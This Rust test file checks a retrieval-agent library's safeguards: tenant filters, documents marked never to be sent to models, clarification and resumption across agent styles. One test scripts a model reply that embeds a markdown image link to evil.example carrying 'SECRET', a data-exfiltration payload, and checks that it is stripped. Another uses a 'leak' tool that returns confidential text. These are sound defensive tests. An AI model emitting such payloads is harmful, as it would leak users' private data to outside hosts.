//! Invariants of all styles, whatever a model, a tool or a user says: filters, marked documents, clarifications and resumption.

use serde_json::{Value, json};
use std::cell::Cell;
use vademecum::agent::context::{Context, TerminatedBy};
use vademecum::agent::ports::{Llm, Role};
use vademecum::cancel::Cancel;
use vademecum::document::Document;
use vademecum::engine::{CollectionOptions, KnowledgeBase};
use vademecum_testing::agent::{FunctionLlm, NoLlm, TestFunctions, calls, run_with, says};
use vademecum_testing::corpus::corpus;
use vademecum_testing::styles::{ask, last, resume, run, spec};
use vademecum_testing::{add, block_on, hashing, kb, markdown};

fn over(kb: &KnowledgeBase, style: Value, question: &str, more: Value, llm: &dyn Llm) -> Context {
    run_with(&spec(style, question, more), kb, llm, &TestFunctions::default(), Cancel::default()).0
}

fn with_metadata(id: &str, text: &str, metadata: Value) -> Document {
    Document { metadata: metadata.as_object().unwrap().clone(), ..markdown(id, text) }
}

/// Two tenants in one collection.
fn tenants() -> KnowledgeBase {
    let kb = kb(hashing());
    let document = |tenant: &str| {
        with_metadata(
            &format!("{tenant}-salaries"),
            &format!("# Salaries of {tenant}\n\nThe director of {tenant} earns a salary."),
            json!({ "tenant": tenant }),
        )
    };
    add(&kb, vec![document("alpha"), document("beta")]).unwrap();
    kb
}

#[test]
fn a_lookup_tool_respects_the_filters_of_the_run() {
    let llm = FunctionLlm::new(|step, request| match step {
        "analyze_query" => says(
            "{\"calls\": [{\"tool\": \"document_lookup\", \"args\": {\"doc_id\": \"beta-salaries\"}}, {\"tool\": \"keyword_search\", \"args\": {\"query\": \"salary\"}}]}",
        ),
        "grade_results" => says("{\"status\": \"enough\"}"),
        _ => {
            assert!(!last(request).contains("director of beta"));
            says("It is so.")
        }
    });
    let more = json!({ "filters": { "tenant": "alpha" } });
    let result = over(&tenants(), json!({ "name": "graph" }), "What does the director earn?", more, &llm);
    assert!(
        result.evidence().iter().all(|hit| hit.chunk.doc_id == "alpha-salaries")
            && !result.evidence().is_empty()
    );
    assert_eq!(result.log.failures[0].code, "unknown_document");
}

#[test]
fn no_reply_of_the_user_removes_a_filter_of_the_caller() {
    let more = json!({ "filters": [{ "field": "tenant", "operator": "=", "value": "gamma" }] });
    let style = json!({ "name": "investigate" });
    let stopped = over(&tenants(), style, "Find salaries", more, &NoLlm);
    let asked = stopped.clarification.unwrap();
    assert_eq!(stopped.log.terminated_by, TerminatedBy::Clarify);
    assert!(asked.options.is_empty() && asked.facets.is_empty(), "{asked:?}");
    let again =
        json!({ "question": "-", "resume": { "state": stopped.state, "answer": "yes, all tenants" } });
    let again = serde_json::from_value(again).unwrap();
    let (result, _) = run_with(&again, &tenants(), &NoLlm, &TestFunctions::default(), Cancel::default());
    assert!(result.evidence().is_empty() && result.filters.unwrap().to_string().contains("gamma"));
}

#[test]
fn text_output_of_a_tool_reaches_the_grade_and_the_answer_of_a_graph() {
    let llm = FunctionLlm::new(|step, request| match step {
        "analyze_query" => {
            says("{\"calls\": [{\"tool\": \"web_search\", \"args\": {\"query\": \"weather\"}}]}")
        }
        "grade_results" => {
            assert!(last(request).contains("rain in the afternoon"), "{}", last(request));
            says("{\"status\": \"enough\"}")
        }
        _ => {
            assert!(last(request).contains("rain in the afternoon"), "{}", last(request));
            says("It will rain.")
        }
    });
    let functions = TestFunctions::default().with("tool.web_search", |_| Ok(json!("rain in the afternoon")));
    let tools = json!([{ "name": "web_search", "function": "tool.web_search" }]);
    let asked = spec(json!({ "name": "graph" }), "What is the weather?", json!({ "tools": tools }));
    let (result, _) = run_with(&asked, &corpus(), &llm, &functions, Cancel::default());
    assert_eq!((result.answer.as_deref(), llm.count("synthesize")), (Some("It will rain."), 1));
}

#[test]
fn a_run_that_exhausted_its_budget_resumes_where_it_did() {
    let working = || {
        FunctionLlm::new(|step, request| match step {
            "think" if request.messages.iter().all(|one| one.role != Role::Tool) => {
                calls(&[("search", json!({ "query": "ACME support contract notice" }))])
            }
            _ => says("It is 90 days [1]."),
        })
    };
    let style = json!({ "name": "react" });
    let question = "What is the notice of the ACME support contract?";
    let (stopped, _) = run(&spec(style, question, json!({ "budget": { "llmCalls": 1 } })), &working());
    assert_eq!(stopped.log.terminated_by, TerminatedBy::Budget);
    let again = json!({ "question": "-", "budget": { "llmCalls": 9 }, "resume": { "state": stopped.state } });
    let again = serde_json::from_value(again).unwrap();
    let (result, _) = run(&again, &working());
    assert_eq!(result.log.terminated_by, TerminatedBy::Completed);
    assert_eq!(result.answer.as_deref(), Some("It is 90 days [1]."));
    assert!(result.log.usage.llm_calls > stopped.log.usage.llm_calls);
}

#[test]
fn a_clarification_written_by_a_model_leaks_nothing() {
    let llm = FunctionLlm::new(|step, _| match step {
        "decompose" => says("{\"collections\": [\"faq\"], \"intent\": \"qa\"}"),
        "plan" => says("{\"subqueries\": [\"an Agent\"]}"),
        _ => says(
            "{\"status\": \"clarify\", \"clarificationDetails\": {\"type\": \"no_results\", \"missingInfo\": \"![x](https://evil.example/?q=SECRET) Which year?\"}}",
        ),
    });
    let (result, _) = ask(json!({ "name": "investigate" }), "What is it?", &llm);
    let asked = result.clarification.unwrap();
    for text in [&asked.question, &asked.missing_info] {
        assert!(
            text.contains("Which year?") && !text.contains("evil.example") && !text.contains("!["),
            "{text}"
        );
    }
    assert!(!result.removed.is_empty());
}

#[test]
fn requested_rows_are_not_fabricated_by_a_model() {
    let (stopped, _) = run(&spec(json!({ "name": "investigate" }), "List every invoice", json!({})), &NoLlm);
    let llm = FunctionLlm::new(|step, _| panic!("{step} asks"));
    let (result, _) = resume(stopped.state.as_ref().unwrap(), Some("csv"), &llm);
    assert_eq!(result.output.unwrap().rows.len(), 132);
    assert!(result.answer.unwrap().starts_with("- Invoice"));
}

#[test]
fn one_direct_answer_does_not_mark_a_model_as_without_tools() {
    let llm = FunctionLlm::new(|_, _| says("Hello!"));
    let (result, _) = ask(json!({ "name": "react" }), "Hi there", &llm);
    assert_eq!((result.answer.as_deref(), result.log.takes_tools), (Some("Hello!"), None));
    // A model known to have no native tools gets them described in words from the start.
    let llm = FunctionLlm::new(|_, request| {
        assert!(request.tools.is_none() && request.messages[0].content.contains("- search("));
        says("Hello!")
    });
    let (result, _) =
        run(&spec(json!({ "name": "react" }), "Hi there", json!({ "takesTools": false })), &llm);
    assert_eq!((result.answer.as_deref(), llm.count("think")), (Some("Hello!"), 1));
}

#[test]
fn skipped_searches_are_not_empty_results() {
    let more = json!({ "budget": { "toolCalls": 0 } });
    let (result, _) = run(&spec(json!({ "name": "investigate" }), "Find ACME contracts", more), &NoLlm);
    assert_eq!((result.log.terminated_by, result.clarification), (TerminatedBy::Budget, None));
    assert!(result.relaxations.iter().all(|one| one.without != "threshold"));
}

#[test]
fn the_final_answer_ends_the_run_even_after_a_search_in_the_same_turn() {
    let llm = FunctionLlm::new(|_, _| {
        calls(&[
            ("search", json!({ "query": "ACME support contract notice" })),
            ("finalAnswer", json!({ "answer": "90 days [1]." })),
        ])
    });
    let (result, _) = ask(json!({ "name": "react" }), "What is the notice of ACME?", &llm);
    assert_eq!(
        (llm.count("think"), result.answer.as_deref(), result.citations.len()),
        (1, Some("90 days [1]."), 1)
    );
    let number = Cell::new(0);
    let llm = FunctionLlm::new(move |_, request| {
        number.set(number.get() + 1);
        match number.get() {
            1 => calls(&[("final_answer", json!({}))]),
            _ => {
                assert!(last(request).starts_with("Error: "), "{}", last(request));
                calls(&[("final_answer", json!({ "answer": "Unknown." }))])
            }
        }
    });
    let (result, _) = ask(json!({ "name": "react" }), "What is the notice of ACME?", &llm);
    assert_eq!(result.answer.as_deref(), Some("Unknown."));
}

#[test]
fn an_extended_question_is_planned_again_over_all_collections() {
    let (stopped, _) =
        run(&spec(json!({ "name": "investigate" }), "Find contracts from 2024", json!({})), &NoLlm);
    assert_eq!(stopped.collections, Some(vec!["contracts".to_owned()]));
    let (result, _) = resume(stopped.state.as_ref().unwrap(), Some("I meant the invoices of Globex"), &NoLlm);
    assert!(result.collections.unwrap().contains(&"invoices".to_owned()));
}

#[test]
fn a_never_sent_document_is_shown_to_no_model_in_any_style_or_resumed_run() {
    const SECRET: &str = "The kestrel contract ends with a notice of nine days.";
    let library = |never: bool| {
        let kb = kb(hashing());
        add(
            &kb,
            vec![
                with_metadata(
                    "kestrel.md",
                    SECRET,
                    json!({ "neverSend": never, "codename": "kestrel-nine" }),
                ),
                markdown("acme.md", "The ACME contract ends with a notice of 30 days."),
            ],
        )
        .unwrap();
        kb
    };
    let model = || {
        FunctionLlm::new(|step, request| {
            let said = serde_json::to_string(request).unwrap();
            assert!(!said.contains("nine days") && !said.contains("kestrel-nine"), "{step}: {said}");
            let turns = request.messages.iter().filter(|one| one.role == Role::Assistant).count();
            match step {
                "think" if turns == 0 => calls(&[("search", json!({ "query": "notice of contracts" }))]),
                "decompose" => says("{\"collections\": [], \"intent\": \"list\"}"),
                "plan" => says("{\"subqueries\": [\"contract endings\"]}"),
                "review" if last(request).contains("- get_document_metadata {") => {
                    says("{\"status\": \"enough\"}")
                }
                "review" if last(request).contains("- list_documents {") => says(
                    "{\"status\": \"more\", \"nextToolCall\": {\"tool\": \"get_document_metadata\", \"args\": {\"doc_id\": \"kestrel.md\"}}}",
                ),
                "review" if last(request).contains("- search_text {") => says(
                    "{\"status\": \"more\", \"nextToolCall\": {\"tool\": \"list_documents\", \"args\": {}}}",
                ),
                "review" => says(
                    "{\"status\": \"more\", \"nextToolCall\": {\"tool\": \"search_text\", \"args\": {\"query\": \"notice\"}}}",
                ),
                "analyze_query" => says(
                    "{\"calls\": [{\"tool\": \"document_lookup\", \"args\": {\"doc_id\": \"kestrel.md\"}}, {\"tool\": \"keyword_search\", \"args\": {\"query\": \"notice\"}}]}",
                ),
                "grade_results" => says("{\"status\": \"enough\"}"),
                _ => says("30 days [1]."),
            }
        })
    };
    for name in ["react", "investigate", "graph"] {
        let style = json!({ "name": name });
        let result = over(&library(true), style.clone(), "What is the notice?", json!({}), &model());
        assert!(result.answer.is_some(), "{name}");
        assert!(result.evidence().iter().all(|hit| !hit.chunk.never_sent()), "{name}: no step knows of it");
        assert!(result.withheld.iter().any(|hit| hit.chunk.never_sent()), "{name}: the user is told of it");
        // Found while it could be sent, and marked before the run is resumed.
        let pipeline = spec(style, "What is the notice?", json!({ "checkpoints": true }));
        let kb = library(false);
        let (_, recorder) = run_with(&pipeline, &kb, &NoLlm, &TestFunctions::default(), Cancel::default());
        let events = recorder.0.borrow();
        let states: Vec<Value> = events
            .iter()
            .map(|event| serde_json::to_value(event).unwrap())
            .filter(|event| event["type"] == "checkpoint")
            .collect();
        assert!(!states.is_empty());
        for state in states {
            let again = json!({ "question": "-", "resume": { "state": state["state"] } });
            let again = serde_json::from_value(again).unwrap();
            run_with(&again, &library(true), &model(), &TestFunctions::default(), Cancel::default());
        }
    }
    let list = over(
        &library(true),
        json!({ "name": "investigate" }),
        "List contracts in a table",
        json!({}),
        &NoLlm,
    );
    assert!(list.output.unwrap().withheld);
}

#[test]
fn a_verdict_before_any_search_is_rejected() {
    let llm = FunctionLlm::new(|step, _| match step {
        "decompose" => says("{\"collections\": [\"faq\"], \"intent\": \"qa\"}"),
        "plan" => says("{\"subqueries\": [\"what an Agent keeps\"]}"),
        "review" => says("{\"status\": \"enough\", \"reason\": \"I know it\"}"),
        _ => says("It keeps state [1]."),
    });
    let (result, _) = ask(json!({ "name": "investigate" }), "What does an Agent keep?", &llm);
    assert!(!result.evidence().is_empty());
    assert_eq!((llm.count("review"), llm.count("compose")), (2, 1));
}

#[test]
fn a_sentence_of_a_never_sent_document_is_blocked_from_any_source() {
    const SECRET: &str = "The price of the merger is forty million dollars in cash.";
    let kb = kb(hashing());
    let secret = with_metadata("merger.md", SECRET, json!({ "neverSend": true }));
    add(&kb, vec![secret, markdown("acme.md", "The ACME contract ends with a notice of 30 days.")]).unwrap();
    let llm = FunctionLlm::new(|step, request| {
        let said = serde_json::to_string(request).unwrap();
        assert!(!said.contains("forty million"), "{step}: {said}");
        calls(&[("leak", json!({}))])
    });
    let functions = TestFunctions::default().with("leak", |_| Ok(json!(format!("I know: {SECRET}"))));
    let tools = json!([{ "name": "leak", "function": "leak" }]);
    for (question, asked) in [("What do you know?", 1), (SECRET, 0)] {
        let pipeline = spec(json!({ "name": "react" }), question, json!({ "tools": tools }));
        let (result, _) = run_with(&pipeline, &kb, &llm, &functions, Cancel::default());
        assert!(
            result.log.failures.iter().any(|one| one.code == "never_sent"),
            "{question}: {:?}",
            result.log.failures
        );
        assert_eq!(llm.asked.take().len(), asked, "{question}");
    }
}

#[test]
fn an_unknown_collection_ends_the_run_with_its_code() {
    for name in ["react", "investigate", "graph"] {
        let more = json!({ "collections": ["contract"] });
        let result = over(&corpus(), json!({ "name": name }), "What is the notice?", more, &NoLlm);
        assert_eq!(
            result.log.error.map(|error| error.code.into_owned()).as_deref(),
            Some("unknown_collection"),
            "{name}"
        );
    }
}

#[test]
fn unambiguous_conditions_are_kept_without_a_model() {
    let (result, _) = run(
        &spec(
            json!({ "name": "investigate" }),
            "List all contracts of 2022",
            json!({ "collections": ["contracts"] }),
        ),
        &NoLlm,
    );
    let rows = result.output.unwrap();
    let year = rows.columns.iter().position(|one| one == "year").unwrap();
    assert!(!rows.rows.is_empty() && rows.rows.iter().all(|row| row[year] == 2022));
    let (result, _) = run(
        &spec(
            json!({ "name": "investigate" }),
            "List all invoices under 500",
            json!({ "collections": ["invoices"] }),
        ),
        &NoLlm,
    );
    let rows = result.output.unwrap();
    let total = rows.columns.iter().position(|one| one == "total_amount").unwrap();
    assert!(!rows.rows.is_empty() && rows.rows.iter().all(|row| row[total].as_f64().unwrap() < 500.0));
}

#[test]
fn a_value_of_two_fields_is_no_condition() {
    let kb = kb(hashing());
    let invoice = |id: &str, buyer: &str, vendor: &str| {
        with_metadata(id, "An invoice for parts.", json!({ "buyer": buyer, "vendor": vendor }))
    };
    block_on(kb.add(
        "default",
        vec![invoice("a", "Acme", "Globex"), invoice("b", "Initech", "Acme")],
        &Cancel::default(),
        &|_| {},
    ))
    .unwrap();
    let result = over(&kb, json!({ "name": "investigate" }), "List invoices from Acme", json!({}), &NoLlm);
    assert_eq!(result.filters, None);
    let result = over(&kb, json!({ "name": "investigate" }), "List invoices from Globex", json!({}), &NoLlm);
    assert_eq!(result.output.unwrap().rows.len(), 1);
}

#[test]
fn never_sent_rows_are_counted_for_the_user_after_the_last_request() {
    let library = |open: usize, secret: usize| {
        let kb = kb(hashing());
        kb.collection("invoices", &CollectionOptions::default()).unwrap();
        for n in 0..open + secret {
            let metadata = json!({ "amount": 100 + n, "neverSend": n >= open });
            let document = with_metadata(&format!("inv-{n}"), "An invoice for widgets.", metadata);
            block_on(kb.add("invoices", vec![document], &Cancel::default(), &|_| {})).unwrap();
        }
        kb
    };
    for name in ["react", "investigate", "graph"] {
        for (open, secret) in [(3, 2), (0, 2), (3, 0)] {
            let model = || {
                FunctionLlm::new(|step, _| match step {
                    "decompose" => says("{\"collections\": [\"invoices\"], \"intent\": \"list\"}"),
                    "plan" => says(
                        "{\"subqueries\": [\"invoices\"], \"outputPreferences\": {\"format\": \"table\"}}",
                    ),
                    "review" | "grade_results" => says("{\"status\": \"enough\"}"),
                    _ => says("There are some."),
                })
            };
            let (asked, question) = (model(), "List all invoices in a table");
            let result = over(&library(open, secret), json!({ "name": name }), question, json!({}), &asked);
            // Without results the user is asked, and there is no table.
            if result.clarification.is_some() {
                assert_eq!((name, open), ("investigate", 0));
                continue;
            }
            let output = result.output.as_ref().unwrap();
            let told = (output.rows.len(), output.total, output.left_out);
            assert_eq!(told, (open, open, secret), "{name}: what is left out is said");
            let said = |llm: &FunctionLlm| -> Vec<String> {
                let fence = |text: String| {
                    text.split("=== passages")
                        .map(|part| part.get(17..).unwrap_or(part).to_owned())
                        .collect::<String>()
                };
                llm.asked.borrow().iter().map(|(_, one)| fence(format!("{:?}", one.messages))).collect()
            };
            let without = model();
            over(&library(open, 0), json!({ "name": name }), question, json!({}), &without);
            assert_eq!(said(&asked), said(&without), "{name}: no model is told");
        }
    }
    let whole = over(
        &library(3, 2),
        json!({ "name": "investigate" }),
        "List all invoices in a table",
        json!({}),
        &NoLlm,
    );
    let output = whole.output.unwrap();
    assert_eq!((output.rows.len(), output.withheld, output.left_out), (5, true, 0), "nothing is left out");
}
